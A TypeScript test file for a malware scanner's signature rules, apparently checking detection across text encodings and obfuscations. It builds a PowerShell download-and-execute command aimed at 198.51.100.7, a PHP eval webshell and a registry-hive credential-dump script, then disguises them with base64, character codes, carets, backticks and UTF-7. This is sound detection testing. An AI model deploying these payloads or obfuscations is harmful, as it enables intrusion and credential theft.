import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { readSamples } from '#scanner/rules/samples.ts';
import type { Match } from '#scanner/walk/examination.ts';
import { examined } from '#test/examined.ts';
import { EICAR, noise, zip } from '#test/files.ts';
import { packRules } from '#test/pack-rules.ts';
import { packageScript } from '#test/samples/texts.ts';
import { SIGNATURES_FOLDER } from '#test/signatures-folder.ts';
import { hasUtf7 } from './text-encoding.ts';

const samples = await readSamples(join(SIGNATURES_FOLDER, 'samples'));

/** All that matched a content, its views and its members. */
async function matchesOf(content: Buffer): Promise<Match[]> {
  const matches: Match[] = [];
  const match = (bytes: Buffer) => {
    const found = packRules.match(bytes);
    matches.push(...found);
    return found;
  };
  await examined(content, { match, on_disk: true });
  return matches;
}

/** Samples of formats that are bytes and no texts: there is no other encoding of them. */
function isText(bytes: Buffer): boolean {
  const text = bytes.toString('utf8');
  return !bytes.includes(0) && Buffer.from(text).equals(bytes);
}

const ENCODINGS: readonly (readonly [string, (text: string) => Buffer])[] = [
  ['as it is', (text) => Buffer.from(text)],
  ['UTF-16LE with its mark', (text) => Buffer.from(`\ufeff${text}`, 'utf16le')],
  ['UTF-16LE without a mark', (text) => Buffer.from(text, 'utf16le')],
  ['UTF-16BE with its mark', (text) => Buffer.from(`\ufeff${text}`, 'utf16le').swap16()],
  ['UTF-16BE without a mark', (text) => Buffer.from(text, 'utf16le').swap16()],
  ['UTF-8 with a mark', (text) => Buffer.from(`\ufeff${text}`)],
  ['lines that end with CR LF', (text) => Buffer.from(text.replaceAll(/\r?\n/g, '\r\n'))],
  ['lines that end with CR', (text) => Buffer.from(text.replaceAll(/\r?\n/g, '\r'))],
  ['UTF-16LE, lines that end with CR LF', (text) => Buffer.from(`\ufeff${text.replaceAll(/\r?\n/g, '\r\n')}`, 'utf16le')],
];

describe('every sample of the rule pack that is a text', () => {
  const texts = samples.filter(({ bytes }) => isText(bytes));

  test('is most of them', () => {
    expect(texts.length).toBeGreaterThan(0.8 * samples.length);
  });

  test.each(ENCODINGS)('is seen by its rule in %s', async (_, encode) => {
    const missed: string[] = [];
    for (const { rule, note, bytes } of texts.filter(({ kind }) => kind === 'hit')) {
      const found = await matchesOf(encode(bytes.toString('utf8')));
      if (!found.some((match) => match.rule === rule)) missed.push(`${rule}: ${note}`);
    }
    expect(missed).toEqual([]);
  });

  test.each(ENCODINGS)('that is harmless stays so in %s', async (_, encode) => {
    const alarms: string[] = [];
    for (const { rule, note, bytes, kind } of texts) {
      if (kind !== 'near_miss') continue;
      for (const match of await matchesOf(encode(bytes.toString('utf8'))))
        if (match.verdict === 'infected' || match.rule === rule) alarms.push(`${rule}, ${note}: ${match.rule}`);
    }
    expect(alarms).toEqual([]);
  });
});

const FETCH = [
  'power',
  'shell -w hidden -c "iex (New-Object Net.WebClient).Down',
  "loadString('http://198.51.100.7/a')",
  '"',
].join('');
const SHELL = ['<', '?php @ev', 'al($_PO', "ST['pass']); ?>"].join('');

describe('a command is found that is hidden by', () => {
  test.each([
    [
      'literals put together',
      `<script>x = '${FETCH.slice(0, 9)}' + '${FETCH.slice(9, 60)}'\n + "${FETCH.slice(60, 80)}" + '${FETCH.slice(80)}'</script>`,
    ],
    [
      'literals appended in lines',
      `<% s = "${FETCH.replaceAll('"', '""').slice(0, 9)}"\ns = s & "${FETCH.replaceAll('"', '""').slice(9)}" %>`,
    ],
    ['characters by number', `x = ${[...FETCH].map((character) => `Chr(${character.charCodeAt(0)})`).join(' & ')}`],
    [
      'a list of character codes',
      `run(String.fromCharCode(${[...FETCH].map((character) => character.charCodeAt(0)).join(',')}))`,
    ],
    ['casts', `iex (${[...FETCH].map((character) => `[char]${character.charCodeAt(0)}`).join('+')})`],
    ['hexadecimal escapes', `x("${[...FETCH].map((character) => `\\x${character.charCodeAt(0).toString(16)}`).join('')}")`],
    ['Unicode escapes', `x("${[...FETCH].map((character) => `\\u00${character.charCodeAt(0).toString(16)}`).join('')}")`],
    ['URL escapes', `unescape("${[...FETCH].map((character) => `%${character.charCodeAt(0).toString(16)}`).join('')}")`],
    ['entities', `<a onclick="${[...FETCH].map((character) => `&#${character.charCodeAt(0)};`).join('')}">`],
    ['carets', FETCH.replace('powershell', 'p^o^w^er^shell').replace('iex', 'i^ex')],
    [
      'backticks',
      FETCH.replace('powershell', 'power`shell').replace('DownloadString', 'Down`load`String').replace('iex', 'i`e`x'),
    ],
    ['a continued line', FETCH.replace(' -w', ' `\n -w').replace(' hidden', ' ^\r\nhidden')],
    ['base64', `<p>${Buffer.from(`@echo off\n${FETCH}\n`).toString('base64')}</p>`],
    [
      'base64 in lines',
      `-----BEGIN X-----\n${Buffer.from(`@echo off\n${FETCH}\n`)
        .toString('base64')
        .replaceAll(/(.{64})/g, '$1\n')}\n-----END X-----\n`,
    ],
    ['base64 of UTF-16', `-enc ${Buffer.from(FETCH, 'utf16le').toString('base64')}`],
    [
      'base64 of a literal in pieces',
      `x = "${Buffer.from(FETCH)
        .toString('base64')
        .replaceAll(/(.{30})/g, '$1" + "')}"`,
    ],
    ['hexadecimal digits', `x("${Buffer.from(FETCH).toString('hex')}")`],
    ['hexadecimal digits, with zeros behind them', `x("${Buffer.from(FETCH).toString('hex')}")\n\0\0\0\0\0\0`],
    ['hexadecimal digits in a text that quotes a PDF', `# %PDF-1.5 is how it begins\nx("${Buffer.from(FETCH).toString('hex')}")`],
    ['a list of numbers', `var a = [${[...Buffer.from(FETCH)].join(', ')}];`],
    [
      'a list of hexadecimal numbers',
      `[Byte[]]$a = ${[...Buffer.from(FETCH)].map((byte) => `0x${byte.toString(16)}`).join(',')}`,
    ],
    [
      'UTF-7 of whole lines',
      `+${Buffer.from(`${FETCH} # and a word more`, 'utf16le').swap16().toString('base64').replaceAll('=', '')}\n`,
    ],
    ['a section of CDATA', `<job><script><![CDATA[@echo off\n${FETCH.replace('hidden', 'hid^den')}\n]]></script></job>`],
    ['bytes of Python', `d = b'@echo off\\n${FETCH.replaceAll("'", "\\'").replace('hidden', '\\x68idden')}'`],
    [
      'UTF-7',
      FETCH.replaceAll(/[whi"]/g, (mark) => `+${Buffer.from(mark, 'utf16le').swap16().toString('base64').replaceAll('=', '')}-`),
    ],
  ])('%s', async (_, text) => {
    expect(packRules.match(Buffer.from(text)).filter(({ verdict }) => verdict === 'infected')).toEqual([]);
    const found = await matchesOf(Buffer.from(text));
    expect(found.map(({ rule }) => rule)).toContain('Dropper_PowerShell_Hidden_Download');
  });

  test.each([
    ['a comment', SHELL.replace('al(', 'al/* a word */(/*b*/')],
    ['line ends', SHELL.replace('al(', 'al\n\n(\n')],
    ['line comments', SHELL.replace('al(', 'al(// a word\n')],
    ['blanks', SHELL.replace('al(', 'al                    (')],
    ['a packed text', `x(gzinflate(base64_decode('${deflateRawSync(Buffer.from(SHELL.repeat(2))).toString('base64')}')))`],
  ])('%s, in PHP', async (_, text) => {
    expect(packRules.match(Buffer.from(text)).filter(({ verdict }) => verdict === 'infected')).toEqual([]);
    expect((await matchesOf(Buffer.from(text))).map(({ rule }) => rule)).toContain('Webshell_PHP_Eval_Request');
  });
});

describe('a file that a person opens is read as they see it', () => {
  const threats = async (bytes: Buffer) => (await matchesOf(bytes)).map(({ rule }) => rule);
  const script = '@echo off\nreg save HKLM\\SAM C:\\t\\sam\nreg save HKLM\\SYSTEM C:\\t\\sys\n';

  test('with the line ends that texts of UTF-16 have', async () => {
    for (const end of ['\u2028', '\u2029', '\u0085'])
      expect(await threats(Buffer.from(`\ufeff${script.replaceAll('\n', end)}`, 'utf16le'))).toContain(
        'CredTheft_Registry_Hives_Save',
      );
  });

  test('with zeros behind it, in UTF-16 as in UTF-8', async () => {
    const wide = Buffer.concat([Buffer.from(`\ufeff${SHELL}`, 'utf16le'), Buffer.alloc(600)]);
    expect(await threats(wide)).toContain('Webshell_PHP_Eval_Request');
  });

  test('as a value of a table that has lines', async () => {
    for (const mark of [',', ';', '\t'])
      expect(await threats(Buffer.from(`id${mark}text\n1${mark}"${SHELL}\n\n\n"${mark}"a"\n`))).toContain(
        'Webshell_PHP_Eval_Request',
      );
  });

  test('short as it is, when it is nothing but base64 or digits', async () => {
    for (const how of ['base64', 'hex'] as const)
      expect(await threats(Buffer.from(`${Buffer.from(SHELL).toString(how)}\n`))).toContain('Webshell_PHP_Eval_Request');
  });
});

describe('a script that unpacks a package from base85', () => {
  test.each([
    { width: 99, end: '\n' },
    { width: 76, end: '\r\n' },
    { width: 5000, end: '\n' },
  ])('is as whole as the package, though its letters look like shifts of UTF-7: %o', async (layout) => {
    let shifted = 0;
    for (let seed = 1; seed <= 4; seed += 1) {
      const script = Buffer.from(
        packageScript(
          zip([
            { name: 'a', content: noise(250_000, seed) },
            { name: 'b', content: EICAR },
          ]),
          layout,
        ),
      );
      shifted += hasUtf7(script) ? 1 : 0;
      expect(await examined(script)).toMatchObject({ threat: 'EICAR-Test-File', unread: [] });
    }
    expect(shifted).toBeGreaterThan(0);
  });
});
